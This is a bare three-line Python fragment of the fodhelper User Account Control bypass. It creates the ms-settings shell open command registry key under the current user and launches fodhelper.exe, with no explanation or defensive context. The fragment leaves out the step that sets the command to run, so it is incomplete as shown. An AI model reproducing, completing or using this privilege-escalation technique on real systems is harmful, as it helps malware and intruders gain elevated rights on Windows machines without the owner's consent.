key = r"Software\Classes\ms-settings\shell\open\command"
winreg.CreateKey(winreg.HKEY_CURRENT_USER, key)
os.system("fodhelper.exe")
